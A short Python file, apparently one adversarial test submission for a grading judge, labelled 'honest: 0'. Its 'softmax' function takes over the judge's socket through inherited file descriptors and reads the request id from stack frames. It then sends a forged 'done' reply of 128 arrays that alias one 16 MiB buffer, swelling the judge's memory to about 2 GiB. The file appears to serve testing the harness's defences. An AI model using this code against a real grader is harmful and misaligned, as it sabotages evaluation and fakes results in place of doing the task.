"""Answers with 128 arrays that are all made of the same bytes of one frame of 16 MiB.

Sent once, they are two gibibytes where each becomes an array of its own, and the judge keeps what
it was answered until the submission is done. Only one check is answered so.

family: resources, overlapping arrays
honest: 0
needs: own-code-only
"""

import json
import os
import socket
import struct
import sys

SIZE = 16 << 20
ITEM = {"$": "a", "d": "|u1", "s": [SIZE], "o": 0}


def channel():
    for number in range(3, 1024):
        try:
            return socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def softmax(x):
    if x.shape == (1, 6):
        frame = sys._getframe()
        while "header" not in frame.f_locals:
            frame = frame.f_back
        value = [{"$": "l", "v": [ITEM] * 128}, {"$": "l", "v": []}]
        answer = {"op": "done", "id": frame.f_locals["header"]["id"], "v": {"$": "l", "v": value}}
        header = json.dumps(answer).encode()
        channel().sendall(struct.pack("<4sIQ", b"NNG1", len(header), SIZE) + header + bytes(SIZE))
    return None
